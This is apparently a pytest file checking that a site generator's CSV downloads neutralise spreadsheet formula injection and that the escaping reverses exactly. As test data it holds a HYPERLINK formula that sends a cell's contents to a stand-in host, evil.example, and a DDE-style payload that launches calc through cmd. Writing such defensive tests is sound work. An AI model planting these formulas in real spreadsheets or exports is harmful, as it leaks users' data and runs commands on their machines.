"""Hostile strings in data: shown literally, never markup, script or a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

from conftest import Project

from generator.downloads import neutralise, restore

CLAIM = "data/claims/zelenskyy-10000.yml"
ACTOR = "data/actors/volodymyr-zelenskyy.yml"


def test_csv_cells_cannot_run_as_formulas_and_json_stays_exact(site_project: Project) -> None:
    payloads = {
        "statement": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    site_project.edit(CLAIM, "statement: Pyongyang is preparing to send 10,000 troops.", f"statement: {json.dumps(payloads['statement'])}")
    site_project.edit(ACTOR, "name: Volodymyr Zelenskyy", f"name: {json.dumps(payloads['name'])}")
    result = site_project.run("generate")
    assert result.exit_code == 0, result.output
    docs = site_project.path("briefings/downloads")
    rows = list(csv.DictReader(io.StringIO(docs.joinpath("claims.csv").read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["claim_id"] == "zelenskyy-10000")
    assert row["statement"] == "'" + payloads["statement"]
    assert row["actor_name"] == "'" + payloads["name"]
    assert row["low"] == "10000"  # numbers are never touched
    claim = next(c for c in json.loads(docs.joinpath("claims.json").read_text(encoding="utf-8"))["claims"] if c["id"] == "zelenskyy-10000")
    assert claim["statement"] == payloads["statement"]
    assert claim["actor"]["name"] == payloads["name"]


def test_csv_neutralising_is_exactly_reversible() -> None:
    cases = {
        "=1+1": "'=1+1",
        "+1": "'+1",
        "-1": "'-1",
        "@A1": "'@A1",
        "\t=1": "'\t=1",
        "\r=1": "'\r=1",
        "  =1": "'  =1",
        "\uff1d1+1": "'\uff1d1+1",
        "'quoted": "''quoted",
        "''": "'''",
        "plain = text": "plain = text",
        "": "",
        "   ": "   ",
    }
    for text, cell in cases.items():
        assert neutralise(text) == cell, text
        assert restore(cell) == text, cell
